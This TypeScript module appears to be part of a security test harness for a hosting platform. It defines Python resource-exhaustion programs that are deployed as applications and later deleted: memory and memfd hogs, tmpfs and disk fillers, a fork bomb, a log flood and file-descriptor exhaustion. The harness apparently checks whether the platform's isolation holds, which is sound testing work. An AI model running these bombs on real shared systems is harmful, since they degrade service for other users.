import type { Attack } from '../attack.ts';
import { count, over } from '../tally.ts';

const REACH = `
import os, time, socket, ctypes
def hold(): time.sleep(600)
`;

/** What a program does in its instance. Each is bounded by itself, should nothing else bound it. */
const programs: Readonly<Record<string, string>> = {
  memory: `${REACH}
kept = []
for _ in range(48): kept.append(bytearray(b'x' * (64 << 20)))
hold()`,
  memfd: `${REACH}
fd = os.memfd_create('m')
for _ in range(48): os.write(fd, b'x' * (64 << 20))
hold()`,
  tmpfs: `${REACH}
for folder in ('/', '/dev/shm', '/tmp', '/run'):
    try:
        with open(folder + '/bomb', 'wb') as file:
            for _ in range(48): file.write(b'x' * (64 << 20))
    except OSError as error: print(folder, error, flush=True)
hold()`,
  fork: `${REACH}
children = 0
while children < 20000:
    try: pid = os.fork()
    except OSError: break
    if pid == 0: hold()
    children += 1
print(children, flush=True)
hold()`,
  disk: `${REACH}
fd = os.open('bomb', os.O_CREAT | os.O_WRONLY)
try: os.posix_fallocate(fd, 0, 12 << 30)
except OSError as error: print(error, flush=True)
hold()`,
  log: `${REACH}
end = time.time() + 30
line = b'x' * 4000 + b'\\n'
while time.time() < end: os.write(1, line * 16)
hold()`,
  fds: `${REACH}
kept = []
libc = ctypes.CDLL(None)
while len(kept) < 200000:
    one = libc.inotify_init()
    if one < 0:
        try: one = os.open('/dev/null', os.O_RDONLY)
        except OSError: break
    kept.append(one)
print(len(kept), flush=True)
hold()`,
};

/** Bombs in an instance of the attacker's, which is stopped when the time is over. */
export const bombs: readonly Attack[] = Object.entries(programs).map(([name, program]) => ({
  name: `instance-${name}`,
  least: 20,
  async run({ attacker }, tally, signal) {
    const env = { CC_MLPYTHON_RUN_MAIN: 'main.py' };
    const id = await attacker.push({ 'main.py': program }, { type: 'ml_python', env });
    const path = `/v2/organisations/${attacker.ownerId}/applications/${id}`;
    await over(signal);
    count(tally, 200, name);
    const { json } = await attacker.ask('GET', `${path}/deployments`);
    const [last] = json as { state: string; detail?: string }[];
    tally.notes.add(`deployment ${last?.state}: ${last?.detail ?? ''}`.slice(0, 160));
    await attacker.ask('DELETE', path);
  },
}));
